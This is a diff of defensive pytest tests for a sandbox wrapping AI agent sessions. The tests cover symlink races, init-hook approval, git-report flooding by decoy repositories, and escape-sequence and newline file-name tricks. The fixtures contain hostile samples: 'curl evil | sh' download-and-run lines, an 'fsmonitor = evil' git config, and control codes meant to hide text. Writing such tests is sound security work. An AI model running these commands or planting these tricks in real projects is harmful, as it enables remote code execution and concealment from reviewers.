@@ -592,3 +592,98 @@ def test_config_and_auth_files_in_the_project_are_not_followed(
         result = sandbox.run("exec", *args, "--", "true")
         one_line_error(result, "symlink")
     assert not (sandbox.project / ".codex/.environment/config.toml").exists()
+
+
+# --- Second outside review ----------------------------------------------------------------------
+
+
+def test_parallel_sessions_of_a_project_are_fine(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """Every path a default run mounts is a mount point in the running session too."""
+    sandbox = make_sandbox(git_repo(tmp_path / "project"))
+    with running_sandbox(sandbox):
+        result = sandbox.sh("echo second")
+    assert result.returncode == 0 and result.stdout.strip() == "second", result.stderr
+
+
+def test_a_file_created_by_a_running_agent_is_not_mounted_meanwhile(make_sandbox) -> None:  # type: ignore[no-untyped-def]
+    """init.sh did not exist when session A started, so it is no mount point there: A's agent
+    creates it and could swap it for a symlink while session B mounts it. B refuses instead."""
+    sandbox = make_sandbox()
+    with running_sandbox(sandbox):
+        hook = sandbox.project / ".codex/.environment/init.sh"
+        hook.write_text("true\n")  # as the agent of A would
+        result = sandbox.run("exec", "--accept-changes", "--", "true")
+        one_line_error(result, "a running sandbox", str(hook))
+
+
+def test_a_changed_init_hook_needs_approval(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    hook = tmp_path / "hook.sh"
+    hook.write_text("true\n")
+    sandbox = make_sandbox(init_hook=str(hook))
+    (sandbox.project / ".codex/.environment/init.sh").write_text("curl evil | sh\n")
+    refused = sandbox.sh("true")
+    one_line_error(refused, "not accepted")
+    assert "init hook" in refused.stderr and "+curl evil | sh" in refused.stderr
+
+
+def test_git_report_names_every_repository_however_many_files(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """Decoys (thousands of changed files in vendored repositories) cannot push the agent's
+    repository out of the report."""
+    sandbox = make_sandbox(git_repo(tmp_path / "project"))
+    for name in "abc":
+        git_repo(sandbox.project / "vendor" / name)
+    chown_tree(sandbox.project)
+    result = sandbox.sh(
+        "for d in a b c; do for i in $(seq 1500); do : > vendor/$d/.git/o$i; done; done;"
+        " mkdir -p zz/.git && echo '[core] fsmonitor = evil' > zz/.git/config;"
+        " mkdir -p \"$(printf 'nl\\nx')/.git\""
+    )
+    assert result.returncode == 0, result.stderr[-2000:]
+    assert f"  {sandbox.project}/zz/.git\n" in result.stderr
+    assert f"  $'{sandbox.project}/nl\\nx/.git'\n" in result.stderr, result.stderr[-2000:]
+    for name in "abc":
+        assert f"{sandbox.project}/vendor/{name}/.git\n" in result.stderr
+
+
+@pytest.mark.parametrize("name", ["z\nz", "x\x1b[2Jy", "a b"])
+def test_odd_names_in_the_build_context_are_refused(make_sandbox, name: str) -> None:  # type: ignore[no-untyped-def]
+    """A name with a newline would slip past the line-by-line hash: the tag would not cover it."""
+    sandbox = make_sandbox()
+    (sandbox.project / ".codex/sandbox" / name).write_text("echo evil\n")
+    result = sandbox.run("build")
+    one_line_error(result, "plain name")
+    assert "\x1b" not in result.stderr
+
+
+def test_policy_diff_shows_new_files_and_no_control_codes(make_sandbox) -> None:  # type: ignore[no-untyped-def]
+    sandbox = make_sandbox()
+    entrypoint = sandbox.project / ".codex/sandbox/entrypoint.sh"
+    entrypoint.write_text(entrypoint.read_text() + "export EVIL=1 # x\r\x1b[2K# harmless\n")
+    (sandbox.project / ".codex/sandbox/extra.sh").write_text("curl evil | sh\n")
+    refused = sandbox.run("build")
+    one_line_error(refused, "not accepted")
+    assert "\x1b" not in refused.stderr and "\r" not in refused.stderr
+    assert "export EVIL=1" in refused.stderr and "+curl evil | sh" in refused.stderr
+
+
+def test_cdpath_cannot_redirect_the_checked_work_dir(make_sandbox, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    """With CDPATH set, `cd tmp` from / would enter CDPATH's tmp: a mirror of the path there
+    must not become the work dir."""
+    sandbox = make_sandbox()
+    (sandbox.project / "sub").mkdir()
+    decoy = tmp_path / "decoy"
+    mirror = decoy / str(sandbox.project / "sub").lstrip("/")
+    mirror.mkdir(parents=True)
+    (mirror / "decoy-marker").touch()
+    result = sandbox.run(
+        "exec",
+        "--work-dir",
+        "sub",
+        "--",
+        "ls",
+        "-A",
+        env={"CDPATH": str(decoy)},
+        cwd=sandbox.project,
+    )
+    assert result.returncode == 0, result.stderr
+    assert "decoy-marker" not in result.stdout
